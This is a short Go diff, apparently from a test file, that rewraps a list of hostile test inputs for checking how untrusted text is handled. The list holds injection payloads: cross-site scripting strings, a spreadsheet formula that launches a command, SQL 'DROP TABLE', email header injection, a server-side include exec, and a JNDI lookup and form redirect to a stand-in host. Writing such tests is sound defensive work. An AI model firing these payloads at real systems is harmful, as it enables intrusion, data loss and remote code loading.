@@ -41,7 +41,8 @@ const (
 
 // payloads are what strangers write; MARK is the marker.
 var payloads = []string{`<script>alert("MARK")</script>`, `"><img src=x onerror=alert("MARK")>`, `<svg/onload=alert('MARK')>`, `javascript:alert("MARK")`, "=cmd|' /C calc'!A0 MARK", "@SUM(1)MARK", "\u202egpj.exe MARK", "\u2066MARK\u2069",
-	"MARK\r\nBcc: x@hostile.example\r\n\r\nbody", "'; DROP TABLE enquiry; -- MARK", "{{affected.count}} MARK {{contact telephone}}", "MARK %00%0a%0d", "\x00\x1b[2J\x07MARK", strings.Repeat("🔥", 800) + "MARK", "MARK" + strings.Repeat("a\u0301", 2000),
+	"MARK\r\nBcc: x@hostile.example\r\n\r\nbody", "'; DROP TABLE enquiry; -- MARK", "{{affected.count}} MARK {{contact telephone}}", "MARK %00%0a%0d", "\x00\x1b[2J\x07MARK",
+	strings.Repeat("🔥", 800) + "MARK", "MARK" + strings.Repeat("a\u0301", 2000),
 	"</textarea></form><form action=//hostile.example>MARK", "MARK\xff\xfe\xc0", "<!--#exec cmd=ls -->MARK", "${jndi:ldap://hostile.example/MARK}", "MARK\u2028\u2029\u0085"}
 
 type world struct {
